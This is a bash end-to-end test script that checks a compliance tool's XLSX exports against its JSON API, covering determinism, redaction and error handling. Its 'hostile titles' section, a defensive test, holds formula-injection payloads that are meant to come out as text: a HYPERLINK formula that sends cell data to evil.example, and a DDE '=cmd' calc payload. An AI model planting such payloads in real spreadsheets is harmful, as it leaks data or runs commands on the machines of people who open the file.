#!/usr/bin/env bash
# Workbooks (GET /api/v1/orgs/{org}/exports/{name}.xlsx and `annexa export
# NAME --format xlsx`): each is opened with openpyxl (python3-openpyxl) and
# compared with the JSON answer of the same request -- sheet names,
# headers, cell types, row counts, scores to the last digit; the shape
# every sheet has (frozen header, autofilter, widths, no formula); the
# same bytes for the same data, as_of and generation time; a report run
# with the SHA-256; audience=customer leaves no internal fact anywhere;
# hostile titles arrive as text; bad input is a 4xx naming the field.
set -u
E2E_NAME=xlsx
. "$(dirname "$0")/lib.sh"
e2e_require

A=("$BIN" --config "$ANNEXA_CONFIG")
D=$E2E_TMP
PY=/usr/bin/python3
CHECK=$(dirname "$0")/xlsx_check.py
BUNDLE=${ANNEXA_SRCDIR:-$(dirname "$0")/../..}/sql/demo/acme-cloud.json
XLSX=application/vnd.openxmlformats-officedocument.spreadsheetml.sheet
AS_OF=2026-06-30

if ! "$PY" -c 'import openpyxl' 2>/dev/null; then
	skip "every workbook check" "python3-openpyxl is not installed (scripts/deps)"
	e2e_done
	exit $?
fi

# pycheck NAME-PREFIX MODE ARGS...: runs the checker, one check per line.
pycheck() {
	local line other=""
	"$PY" "$CHECK" "$@" >"$D/py.out" 2>&1
	while IFS= read -r line; do
		case "$line" in
		"ok "*) pass "${line#ok }" ;;
		"FAIL "*) fail "${line#FAIL }" ;;
		*) other="$other $line" ;;
		esac
	done <"$D/py.out"
	[ -z "$other" ] || fail "xlsx_check.py $1 ran to its end" "$other"
}
# getx ARGS...: req for a binary answer (bash warns of NUL bytes).
getx() { req "$@" 2>/dev/null; }
differ() { ! cmp -s "$1" "$2"; }

TOK=$(new_token --org acme-cloud --role viewer --label xlsx-e2e)
H=(-H "Authorization: Bearer $TOK")
O=$U/api/v1/orgs/acme-cloud

# --- gap -----------------------------------------------------------------
getx "${H[@]}" "$O/exports/gap.xlsx?target=ccm-v4&as_of=$AS_OF"
expect "the gap workbook is served" 200
expect_header "as a spreadsheet" Content-Type "$XLSX"
expect_header "as an attachment named for org, target and as_of" \
    Content-Disposition "gap-acme-cloud-ccm-v4-$AS_OF.xlsx"
cp "$D/body" "$D/gap.xlsx"
SHA=$(header X-Report-SHA256)
RUN=$(header X-Report-Run)
RID=$(header X-Report-Id)
check "X-Report-SHA256 is the SHA-256 of the bytes" \
    test "$(sha256sum <"$D/gap.xlsx" | cut -d' ' -f1)" = "$SHA"
req "${H[@]}" "$O/gap?target=ccm-v4&as_of=$AS_OF"
expect "the gap JSON of the same request" 200 '"controls"'
cp "$D/body" "$D/gap.json"
pycheck common "$D/gap.xlsx"
pycheck gap "$D/gap.xlsx" "$D/gap.json"
pycheck about "$D/gap.xlsx" "Data as of" "$AS_OF"
pycheck about "$D/gap.xlsx" "Audience" internal
pycheck about "$D/gap.xlsx" "Report id" "$RID"
pycheck about "$D/gap.xlsx" "Target framework" ccm-v4

# Recorded as a report run, with its SHA-256 and format; never served as
# a PDF.
req "${H[@]}" "$O/report-runs?limit=500"
check "the workbook is a report run with its SHA-256, format xlsx and who asked" \
    "$PY" -c 'import json,sys; r=[x for x in json.load(open(sys.argv[1]))["report_runs"] if str(x["id"])==sys.argv[2]]; sys.exit(not(r and r[0]["sha256"]==sys.argv[3] and r[0]["format"]=="xlsx" and r[0]["kind"]=="gap" and r[0]["signer_fingerprint"] is None and r[0]["requested_by"]=="xlsx-e2e"))' \
    "$D/body" "$RUN" "$SHA"
req "${H[@]}" "$O/report-runs/$RUN.pdf"
expect "a workbook's run is not served as a PDF" 404
getx "${H[@]}" "$O/report-runs/$RUN.xlsx"
expect "a workbook's run is served as a workbook" 200
expect_header "…as a spreadsheet" Content-Type "$XLSX"
check "the stored run's bytes are the workbook's" cmp "$D/body" "$D/gap.xlsx"
getx "${H[@]}" "$O/exports/gap.xlsx?target=ccm-v4&as_of=$AS_OF"
expect "asked again: the same workbook" 200
check "asked again: the same bytes and run" test "$(header X-Report-SHA256) $(header X-Report-Run)" = "$SHA $RUN"

# Deterministic: two generations (never the stored run) of the same data,
# as_of and generation time are the same bytes.
for i in 1 2; do
	"${A[@]}" export gap --org acme-cloud --target ccm-v4 --as-of "$AS_OF" \
	    --format xlsx --generated-at 2026-07-01T08:00:00Z --no-record \
	    -o "$D/cli$i.xlsx" 2>"$D/cli$i.err"
done
check "two generations give the same bytes (SHA-256)" cmp "$D/cli1.xlsx" "$D/cli2.xlsx"
check "the command line says the workbook is not signed" grep -q "not signed" "$D/cli1.err"
pycheck gap "$D/cli1.xlsx" "$D/gap.json"
pycheck about "$D/cli1.xlsx" "Generated at (UTC)" "2026-07-01 08:00:00"
"${A[@]}" export gap --org acme-cloud --target ccm-v4 --as-of "$AS_OF" \
    --format xlsx --generated-at 2026-07-02T08:00:00Z --no-record \
    -o "$D/cli3.xlsx" 2>/dev/null
check "another generation time is another file" differ "$D/cli1.xlsx" "$D/cli3.xlsx"
"${A[@]}" export gap --org acme-cloud --target ccm-v4 --as-of "$AS_OF" \
    --format xlsx -o "$D/cli4.xlsx" 2>"$D/cli4.err"
check "export records a report run (cli)" grep -q "report run [0-9]" "$D/cli4.err"

# The customer copy: the same numbers, no internal fact.
getx "${H[@]}" "$O/exports/gap.xlsx?target=ccm-v4&as_of=$AS_OF&audience=customer"
expect "the customer gap workbook" 200
cp "$D/body" "$D/gap-c.xlsx"
pycheck gap "$D/gap-c.xlsx" "$D/gap.json"
pycheck about "$D/gap-c.xlsx" "Audience" customer
pycheck customer "$D/gap-c.xlsx" "$BUNDLE" acme-cloud

# --- soa -------------------------------------------------------------------
# The reviews up to as_of, every page: the latest of each control.
"$PY" - "$U" "$TOK" "$AS_OF" >"$D/reviews.json" <<'EOT'
import json, sys, urllib.request
u, tok, as_of = sys.argv[1:4]
out, cur = [], None
while True:
    q = '%s/api/v1/orgs/acme-cloud/reviews?until=%s&limit=500' % (u, as_of)
    if cur:
        q += '&cursor=' + cur
    r = json.load(urllib.request.urlopen(urllib.request.Request(
        q, headers={'Authorization': 'Bearer ' + tok})))
    out += r['reviews']
    cur = r['next_cursor']
    if not cur:
        break
json.dump(out, sys.stdout)
EOT
req "${H[@]}" "$U/api/v1/frameworks/iso27017-2015/controls"
cp "$D/body" "$D/catalog.json"
for aud in internal customer; do
	getx "${H[@]}" "$O/exports/soa.xlsx?as_of=$AS_OF&audience=$aud"
	expect "the SoA workbook ($aud)" 200
	expect_header "named for org and as_of" Content-Disposition "soa-acme-cloud-$AS_OF.xlsx"
	cp "$D/body" "$D/soa-$aud.xlsx"
	pycheck common "$D/soa-$aud.xlsx"
	pycheck soa "$D/soa-$aud.xlsx" "$D/catalog.json" "$BUNDLE" "$D/reviews.json" "$D/gap.json" "$aud"
done
pycheck customer "$D/soa-customer.xlsx" "$BUNDLE" acme-cloud
check "the internal SoA does name owners (the customer check can fail)" \
    eval '! "$PY" "$CHECK" customer "$D/soa-internal.xlsx" "$BUNDLE" acme-cloud >/dev/null'
"${A[@]}" export soa --org acme-cloud --as-of "$AS_OF" --format xlsx \
    --generated-at 2026-07-01T08:00:00Z --no-record -o "$D/soa1.xlsx" 2>/dev/null
"${A[@]}" export soa --org acme-cloud --as-of "$AS_OF" --format xlsx \
    --generated-at 2026-07-01T08:00:00Z --no-record -o "$D/soa2.xlsx" 2>/dev/null
check "the SoA: two generations give the same bytes" cmp "$D/soa1.xlsx" "$D/soa2.xlsx"

# --- comparison, readiness, reviews ---------------------------------------
getx "${H[@]}" "$O/exports/comparison.xlsx?as_of=$AS_OF"
expect "the comparison workbook" 200
cp "$D/body" "$D/cmp.xlsx"
req "${H[@]}" "$O/comparison?as_of=$AS_OF"
cp "$D/body" "$D/cmp.json"
pycheck common "$D/cmp.xlsx"
pycheck comparison "$D/cmp.xlsx" "$D/cmp.json"
req "${H[@]}" "$O/readiness?as_of=$AS_OF"
cp "$D/body" "$D/ready.json"
# reviews of 2026-Q2 (until as_of: the quarter's end)
"$PY" -c 'import json,sys; print(json.dumps([r for r in json.load(open(sys.argv[1])) if "2026-04-01" <= r["reviewed_at"] <= "2026-06-30"]))' \
    "$D/reviews.json" >"$D/q2.json"
for aud in internal customer; do
	getx "${H[@]}" "$O/exports/readiness.xlsx?as_of=$AS_OF&audience=$aud"
	expect "the readiness workbook ($aud)" 200
	cp "$D/body" "$D/ready-$aud.xlsx"
	pycheck common "$D/ready-$aud.xlsx"
	pycheck readiness "$D/ready-$aud.xlsx" "$D/ready.json" "$aud"
	getx "${H[@]}" "$O/exports/reviews.xlsx?period=2026-Q2&audience=$aud"
	expect "the reviews workbook of 2026-Q2 ($aud)" 200
	expect_header "named for org and period" Content-Disposition "reviews-acme-cloud-2026-Q2.xlsx"
	cp "$D/body" "$D/rev-$aud.xlsx"
	pycheck common "$D/rev-$aud.xlsx"
	pycheck reviews "$D/rev-$aud.xlsx" "$D/q2.json" "$aud"
	pycheck about "$D/rev-$aud.xlsx" Period 2026-Q2
done
pycheck customer "$D/ready-customer.xlsx" "$BUNDLE" acme-cloud
pycheck customer "$D/rev-customer.xlsx" "$BUNDLE" acme-cloud
check "the internal review history does hold notes (the customer check can fail)" \
    eval '! "$PY" "$CHECK" customer "$D/rev-internal.xlsx" "$BUNDLE" acme-cloud >/dev/null'
req "${H[@]}" "$O/exports/reviews.xlsx?period=2026-Q9"
expect "a bad period is 400 naming period" 400 '"field":"period"'
req "${H[@]}" "$O/exports/reviews.xlsx?period=2026-Q3&as_of=2026-06-30"
expect "as_of before the period is 400 naming as_of" 400 '"field":"as_of"'
req "${H[@]}" "$O/exports/traceability.xlsx"
expect "traceability has no workbook: 404 naming the name" 404 '"field":"name"'
req "${H[@]}" "$O/reports/readiness.pdf"
expect "readiness has no PDF: 404 naming the kind" 404 '"field":"kind"'

# --- the portal's download buttons -----------------------------------------
# link PAGE-FILE ID: the href of the element with that id, unescaped.
link() {
	"$PY" - "$1" "$2" <<'EOT'
import html.parser, sys
class P(html.parser.HTMLParser):
    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if a.get('id') == sys.argv[2] and 'href' in a:
            print(a['href'])
P().feed(open(sys.argv[1]).read())
EOT
}
# button PAGE-PATH ID NAME: the page links ID to a workbook that is served.
button() {
	local href
	req "${H[@]}" "$U$1"
	cp "$D/body" "$D/page.html"
	href=$(link "$D/page.html" "$2")
	case "$href" in
	/api/v1/orgs/acme-cloud/exports/"$3".xlsx*) pass "$1 links $3.xlsx ($href)" ;;
	*) fail "$1 links $3.xlsx" "href '$href'"; return ;;
	esac
	getx "${H[@]}" "$U$href"
	expect "the button of $1 gives the $3 workbook" 200
	expect_header "the button of $1 gives a spreadsheet" Content-Type "$XLSX"
}
button "/orgs/acme-cloud?as_of=$AS_OF" download-soa-xlsx soa
button "/orgs/acme-cloud?as_of=$AS_OF" download-comparison-xlsx comparison
button "/orgs/acme-cloud/gap/ccm-v4?as_of=$AS_OF" download-gap-xlsx gap
check "the gap page's button keeps target and as_of" \
    eval 'link "$D/page.html" download-gap-xlsx | grep -q "target=ccm-v4&as_of=$AS_OF"'
button "/orgs/acme-cloud/readiness?as_of=$AS_OF" download-readiness-xlsx readiness
button "/orgs/acme-cloud/management-reviews?as_of=$AS_OF" download-reviews-xlsx reviews
cp "$D/body" "$D/button.xlsx"
pycheck about "$D/button.xlsx" Period 2026-Q2

# --- bad input -------------------------------------------------------------
req "${H[@]}" "$O/exports/nope.xlsx"
expect "an unknown workbook is 404 naming the name" 404 '"field":"name"'
req "${H[@]}" "$O/exports/gap.pdf?target=ccm-v4"
expect "gap.pdf is not a workbook: 404 naming the name" 404 '"field":"name"'
req "${H[@]}" "$O/exports/gap.xlsx"
expect "the gap workbook without a target is 400 naming target" 400 '"field":"target"'
req "${H[@]}" "$O/exports/gap.xlsx?target=no-such-fw"
expect "an unknown target is 404 naming target" 404 '"field":"target"'
req "${H[@]}" "$O/exports/gap.xlsx?target=ccm-v4&as_of=2026-02-30"
expect "an impossible as_of is 400 naming as_of" 400 '"field":"as_of"'
req "${H[@]}" "$O/exports/gap.xlsx?target=ccm-v4&audience=everyone"
expect "a bad audience is 400 naming audience" 400 '"field":"audience"'
req "${H[@]}" "$O/exports/gap.xlsx?target=ccm-v4&colour=red"
expect "an unknown parameter is 400 naming it" 400 '"field":"colour"'
req "${H[@]}" "$U/api/v1/orgs/no-such-org/exports/gap.xlsx?target=ccm-v4"
expect "another organisation is 404" 404
req "$O/exports/gap.xlsx?target=ccm-v4"
expect "no token is 401" 401
# exits RC WORD: the last command exited RC and its error names WORD.
exits() { [ "$RC" -eq "$1" ] && grep -q -- "$2" "$D/err"; }
"${A[@]}" export nope --org acme-cloud --format xlsx -o "$D/x.xlsx" 2>"$D/err"; RC=$?
check "export of an unknown workbook exits 2 naming NAME" exits 2 NAME
"${A[@]}" export gap --org acme-cloud --target ccm-v4 --format csv -o "$D/x.xlsx" 2>"$D/err"; RC=$?
check "export NAME --format csv exits 2 naming --format" exits 2 --format
"${A[@]}" export gap --org acme-cloud --target nope --format xlsx -o "$D/x.xlsx" 2>"$D/err"; RC=$?
check "export with an unknown target exits 3 naming target" exits 3 target
"${A[@]}" export gap --org acme-cloud --target ccm-v4 --as-of 2026-13-01 --format xlsx -o "$D/x.xlsx" 2>"$D/err"; RC=$?
check "export with a bad --as-of exits 3 naming as_of" exits 3 as_of
check "a failed export leaves no file" test ! -e "$D/x.xlsx"

# --- hostile titles --------------------------------------------------------
cat >"$D/x-src.json" <<'EOT'
{"framework": {"id": "xf-src", "name": "Workbook formula source", "version": "1", "publisher": "annexa tests"},
 "controls": [
  {"id": "-S1", "title": "-1", "group_id": "S", "group_title": "Sources"},
  {"id": "S2", "title": "Plain source", "group_id": "S", "group_title": "Sources"}
 ]}
EOT
cat >"$D/x-tgt.json" <<'EOT'
{"framework": {"id": "xf-tgt", "name": "Workbook formula target", "version": "1", "publisher": "annexa tests"},
 "controls": [
  {"id": "-T1", "title": "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")", "group_id": "-G", "group_title": "+group"},
  {"id": "T2", "title": "+1", "group_id": "G", "group_title": "Targets"},
  {"id": "T3", "title": "-1", "group_id": "G", "group_title": "Targets"},
  {"id": "T4", "title": "@SUM(A1:A9)", "group_id": "G", "group_title": "Targets"},
  {"id": "T5", "title": "=1+1", "group_id": "G", "group_title": "Targets"}
 ]}
EOT
cat >"$D/xf-formulas.csv" <<'EOT'
# provenance: =cmd|' /C calc'!A0
# version: =1+1
source_framework,source_control,target_framework,target_control,relationship,strength,rationale,confidence,note
xf-src,-S1,xf-tgt,-T1,equal,10,syntactic,high,=1+1
xf-src,-S1,xf-tgt,T2,equal,10,syntactic,high,+cmd
xf-src,S2,xf-tgt,T3,subset,5,semantic,medium,-2
xf-src,S2,xf-tgt,T4,equal,,semantic,low,@x
xf-src,S2,xf-tgt,T5,equal,9,semantic,high,plain
EOT
cat >"$D/xlsxf.json" <<'EOT'
{"org": {"id": "xlsxf", "name": "=Formula Workbook Ltd", "cloud_role": "csp", "source_framework": "xf-src"},
 "soa": [
  {"control": "-S1", "applicable": true, "implementation": "implemented", "responsibility": "csp", "owner": "=owner", "evidence_source": "repo", "change_trigger": "any change", "escalation_path": "CISO"},
  {"control": "S2", "applicable": true, "implementation": "partial", "responsibility": "csp", "owner": "Owner", "evidence_source": "repo", "change_trigger": "any change", "escalation_path": "CISO"}
 ]}
EOT
if "${A[@]}" import catalog "$D/x-src.json" "$D/x-tgt.json" >"$D/import.log" 2>&1 &&
    "${A[@]}" import mappings "$D/xf-formulas.csv" >>"$D/import.log" 2>&1 &&
    "${A[@]}" import org "$D/xlsxf.json" >>"$D/import.log" 2>&1; then
	pass "the hostile fixtures import"
else
	fail "the hostile fixtures import" "$(cat "$D/import.log")"
fi
TOKF=$(new_token --org xlsxf --role viewer --label xlsx-formulas)
getx -H "Authorization: Bearer $TOKF" "$U/api/v1/orgs/xlsxf/exports/gap.xlsx?target=xf-tgt&as_of=$AS_OF"
expect "the hostile gap workbook is served" 200
cp "$D/body" "$D/hostile.xlsx"
pycheck common "$D/hostile.xlsx"
pycheck text "$D/hostile.xlsx" Controls Title \
    '=HYPERLINK("http://evil.example/?d="&A1,"click")' '+1' '-1' '@SUM(A1:A9)' '=1+1'
pycheck text "$D/hostile.xlsx" Controls "Target control" '-T1'
pycheck text "$D/hostile.xlsx" Controls "Source control" '-S1'
pycheck text "$D/hostile.xlsx" Provenance "Provenance" "=cmd|' /C calc'!A0"
pycheck text "$D/hostile.xlsx" About Value '=Formula Workbook Ltd'
getx -H "Authorization: Bearer $TOKF" "$U/api/v1/orgs/xlsxf/exports/soa.xlsx?as_of=$AS_OF"
expect "the hostile SoA workbook is served" 200
cp "$D/body" "$D/hostile-soa.xlsx"
pycheck text "$D/hostile-soa.xlsx" "Statement of Applicability" Owner '=owner'
pycheck text "$D/hostile-soa.xlsx" "Statement of Applicability" Control '-S1'
req -H "Authorization: Bearer $TOKF" "$O/exports/gap.xlsx?target=ccm-v4"
expect "another organisation's workbook is 404" 404 '"field":"org"'

e2e_done
